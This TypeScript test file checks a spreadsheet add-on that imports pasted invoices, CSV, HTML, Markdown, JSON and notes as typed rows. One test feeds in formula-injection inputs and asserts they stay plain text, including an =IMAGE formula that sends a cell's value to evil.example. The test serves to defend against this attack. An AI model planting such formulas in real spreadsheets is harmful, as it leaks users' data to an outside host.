import { expect } from "vitest";
import { csv, htmlTable, json, markdown, notes } from "./samples.ts";
import { test } from "./test.ts";

test("the sample mail's three invoices arrive as typed rows", async ({ sheet }) => {
  await sheet.button("Try a sample mail").click();
  await sheet.button("Send").click();
  await sheet.card().getByText("3 of 3 rows").waitFor();
  expect(await sheet.insert()).toBe("Sheet1!A1:G4");
  expect(await sheet.shown("A1:G4")).toEqual([
    ["Invoice number", "Seller", "Invoice date", "Due date", "Net amount", "Tax", "Total"],
    ["0004711", "Nordlicht Energie GmbH", "2026-03-03", "2026-04-02", "€1,240.00", "€235.60", "€1,475.60"],
    ["0098123", "Baxter & Lowe Printing Ltd", "2026-03-09", "2026-03-23", "$860.50", "$68.84", "$929.34"],
    ["0000385", "Atelier Moreau SARL", "2026-03-12", "2026-04-11", "€2,015.75", "€403.15", "€2,418.90"],
  ]);
  expect(await sheet.values("A2:G2")).toEqual([
    ["0004711", "Nordlicht Energie GmbH", 46084, 46114, 1240, 235.6, 1475.6],
  ]);
});

test("a pasted CSV keeps its zeros, quotes, negative amounts and empty cells", async ({ sheet }) => {
  await sheet.paste(csv);
  await sheet.button("Remove Pasted table · 6 × 5").waitFor();
  await sheet.send();
  await sheet.card().getByText("5 of 5 rows").waitFor();
  expect(await sheet.insert()).toBe("Sheet1!A1:E6");
  expect(await sheet.values("A1:E6")).toEqual([
    ["Order", "Date", "Customer", "Amount", "Email"],
    ["000123", 46083, "Miller, Anna", 1250, "anna@miller.example"],
    ["000124", 46084, "Boutique Été", 89.9, null],
    ["000125", 46086, 'Smith "Bob"', 12, "bob@smith.example"],
    ["000126", 46090, "Weiß GmbH", -45.5, "info@weiss.example"],
    ["000127", 46112, "Ōsaka Ltd", 2000, "hello@osaka.example"],
  ]);
  expect(await sheet.shown("B2:D2")).toEqual([["2026-03-02", "Miller, Anna", "€1,250.00"]]);
});

test("a table that was copied from a web page arrives with its line breaks and numbers", async ({
  sheet,
}) => {
  await sheet.paste(htmlTable.text, htmlTable.html);
  await sheet.button("Remove Pasted table · 4 × 3").waitFor();
  await sheet.send();
  await sheet.insert();
  const rows = await sheet.values("A1:C4");
  expect(rows[0]).toEqual(["City", "Population", "Founded"]);
  expect(rows[2]?.[0]).toMatch(/^Hamburg\s\(Free and Hanseatic City\)$/);
  expect(rows.map(([, population]) => population)).toEqual(["Population", 3769495, 1841179, 1471508]);
});

test("a Markdown table arrives without its bars", async ({ sheet }) => {
  await sheet.paste(markdown);
  await sheet.button("Remove Pasted table · 4 × 4").waitFor();
  await sheet.send();
  await sheet.insert();
  expect(await sheet.shown("A1:C4")).toEqual([
    ["SKU", "Product", "Price"],
    ["00817", "Oak table", "$1,299.00"],
    ["00818", "Pine chair", "$149.50"],
    ["00819", "Steel lamp", "$89.00"],
  ]);
  expect(await sheet.values("C2:C4")).toEqual([[1299], [149.5], [89]]);
});

test("JSON records arrive as rows: ids with zeros, old dates, percentages", async ({ sheet }) => {
  await sheet.paste(json);
  await sheet.send();
  await sheet.insert();
  expect(await sheet.values("A1:D4")).toEqual([
    ["id", "name", "born", "share"],
    ["0007", "Ada Lovelace", -30701, 0.125],
    ["0008", "Grace Hopper", 2535, 0.3],
    ["0009", "Katherine Johnson", 6813, 0.575],
  ]);
  expect(await sheet.shown("C2:D2")).toEqual([["1815-12-10", "12.5%"]]);
});

test("notes of keys and values become one row each", async ({ sheet }) => {
  await sheet.paste(notes);
  await sheet.send();
  await sheet.card().getByText("2 of 2 rows").waitFor();
  await sheet.insert();
  expect(await sheet.values("A1:D3")).toEqual([
    ["Name", "Phone", "Appointment", "Fee"],
    ["Lena Vogt", "+49301234567", 46126, 120],
    ["Tom Berg", "+49407654321", 46133, 95.5],
  ]);
});

test("the columns that the person names are the ones that come", async ({ sheet }) => {
  await sheet.paste(csv);
  await sheet.send("Columns: Customer, Amount");
  await sheet.card().getByText("5 of 5 rows").waitFor();
  await sheet.insert();
  expect(await sheet.values("A1:C2")).toEqual([
    ["Customer", "Amount", null],
    ["Miller, Anna", 1250, null],
  ]);
});

test("what looks like a formula, in a cell or a header, lands as the text it is", async ({ sheet }) => {
  const rows = [
    ["=1+1", '=IMAGE("https://evil.example/?d="&A1)'],
    ["+1+1", '=HYPERLINK("https://evil.example","x")'],
    ["@SUM(A1)", "\u200b=NOW()"],
    ["-1+cmd", "＝1+1"],
  ];
  await sheet.paste(["=SUM(1)\tNote", ...rows.map((row) => row.join("\t"))].join("\n"));
  await sheet.send();
  await sheet.insert();
  const cells = (await sheet.read("A1:B5")).flat();
  expect(cells.map(({ formula }) => formula)).toEqual(cells.map(() => ""));
  expect(cells[0]?.value).toBe("=SUM(1)");
  expect((await sheet.values("A2:B5")).map((row) => row.map((value) => String(value)))).toEqual(rows);
});

test("a German sheet reads and shows numbers and dates in German", async ({ openSheet }) => {
  const sheet = await openSheet({ locale: "de_DE" });
  await sheet.paste("Rechnung\tDatum\tBetrag\n0012\t03.04.2026\t1.234,50 €\n0013\t17.04.2026\t99,90 €");
  await sheet.send();
  await sheet.insert();
  expect(await sheet.values("A2:C3")).toEqual([
    ["0012", 46115, 1234.5],
    ["0013", 46129, 99.9],
  ]);
  const [[, date, amount] = []] = await sheet.shown("A2:C2");
  expect(date).toMatch(/^(03\.04\.2026|2026-04-03)$/);
  expect(amount?.replace(/\s/g, " ")).toBe("1.234,50 €");
});

const due = `Number,Due,Amount
0001,03/04/2026,10.00 EUR
0002,05/06/2026,20.00 EUR
0003,12/11/2026,30.00 EUR
`;

test("what a column leaves open is decided once, a value is fixed, a row left out, a column renamed and retyped", async ({
  sheet,
}) => {
  await sheet.paste(due);
  await sheet.send();
  await sheet.card().getByText("3 to check").waitFor();
  await sheet.card().getByRole("button", { name: "Open" }).click();
  await sheet.sidebar.getByText("Due: 3 dates could be April 3 or March 4.").waitFor();
  await sheet.button("Day first").click();
  await sheet.status("Saved as version 2.").waitFor();
  await sheet.sidebar.getByText("Nothing to check").waitFor();
  await sheet.sidebar.getByRole("main").getByText("2026-04-03", { exact: true }).waitFor();

  await sheet.button("Change Amount").click();
  await sheet.sidebar.getByRole("textbox", { name: "New value of Amount" }).fill("€11.50");
  await sheet.button("Save").click();
  await sheet.sidebar.getByText("Changed by you").waitFor();
  await sheet.button("Next record").click();
  await sheet.button("Leave this row out").click();
  await sheet.sidebar.getByRole("main").getByText("1 left out").waitFor();

  await sheet.button("Columns").click();
  await sheet.sidebar.getByRole("listitem").filter({ hasText: "Number or code" }).click();
  await sheet.sidebar.getByRole("textbox", { name: "Name", exact: true }).fill("Invoice");
  await sheet.sidebar.getByRole("combobox", { name: "Type" }).selectOption("Whole number");
  await sheet.button(/^Save$/).click();
  await sheet.status("Saved as version 5.").waitFor();
  await sheet.button("Back").click();
  await sheet.insert();
  expect(await sheet.shown("A1:C3")).toEqual([
    ["Invoice", "Due", "Amount"],
    ["1", "2026-04-03", "€11.50"],
    ["3", "2026-11-12", "€30.00"],
  ]);
});
